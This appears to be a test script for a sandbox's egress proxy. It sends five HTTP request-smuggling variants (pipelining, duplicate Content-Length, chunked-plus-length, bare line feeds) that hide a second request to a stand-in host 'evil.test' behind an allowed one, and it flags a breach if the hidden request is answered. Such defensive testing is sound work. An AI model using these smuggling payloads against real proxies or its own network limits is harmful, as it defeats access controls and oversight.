"""Hides a second request behind a first one: on its connection, in its body, in its fields."""

import os
import socket
from urllib.parse import urlsplit

from attack import breach, facts, finish

proxy = urlsplit(os.environ["http_proxy"])
host = facts["allowed_host"].encode()
second = b"GET /hidden HTTP/1.1\r\nHost: evil.test\r\n\r\n"
chunked = b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n"
for first in (
    b"GET http://%b/ HTTP/1.1\r\n\r\n" % host,
    b"GET http://%b/ HTTP/1.1\r\nConnection: keep-alive\r\nContent-Length: 0\r\n\r\n" % host,
    b"GET http://%b/ HTTP/1.1\r\n" % host + chunked,
    b"GET http://%b/ HTTP/1.1\nX: y\r\n\r\n" % host,
    b"GET http://%b/ HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: 90\r\n\r\n" % host,
):
    with socket.create_connection((proxy.hostname, proxy.port), 2) as line:
        line.sendall(first + second)
        answer = b""
        try:
            while piece := line.recv(1 << 16):
                answer += piece
        except OSError:
            pass
    if answer.count(b"treasure") > 1:
        breach("a hidden request was answered")
finish()
